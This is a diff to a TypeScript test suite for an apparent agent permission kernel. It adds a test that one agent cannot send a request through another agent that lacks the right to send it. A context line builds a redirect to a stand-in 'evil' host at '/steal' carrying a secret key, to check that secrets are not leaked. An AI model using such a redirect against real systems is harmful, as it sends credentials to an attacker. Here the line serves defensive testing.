@@ -141,6 +141,26 @@ describe('an agent', () => {
     expect(strip(await everything(k))).toBe(strip(before));
   });
 
+  test('[E11] [A10] sends nothing through another agent that it may not send itself', async () => {
+    const { k, op, writer, editor } = await boot({ effects: [`GET ${api.url}/v1/** as read`] });
+    const { signal } = new AbortController();
+    const under = (above: string[]): Sys =>
+      k.kernel.sys({ actor: 'agent:writer', run: '', capabilities: [], above, signal });
+    const look = http('GET', '/v1/x');
+    expect(code(await under([]).fire(look))).toBe('done');
+    expect(code(await under(['editor']).fire(look))).toBe('EACCES');
+    const asked = await propose(k, under(['editor']), { effect: look });
+    expect(answered(await decide(editor, asked, 'approve')).state).toBe('pending');
+    expect(answered(await decide(editor, await propose(k, writer, { effect: look }), 'approve')).state).toBe(
+      'executed',
+    );
+    const line = `http GET ${api.url}/v1/** as read`;
+    expect(code(await op.call('grant', { actor: 'agent:editor', effects: [line] }))).toBe('ok');
+    expect(code(await under(['editor']).fire(look))).toBe('done');
+    // A notice does not leave the device.
+    expect(code(await under(['editor']).fire({ kind: 'notify', title: 't', body: '' }))).toBe('done');
+  });
+
   test('[E6] [A10] is not led off the list by a redirect', async () => {
     const { writer } = await boot({ effects: [`GET ${api.url}/** as read with KEY`] });
     const effect = http('GET', `/redirect?to=${encodeURIComponent(`${evil.url}/steal`)}`, { secret: { name: 'KEY' } });
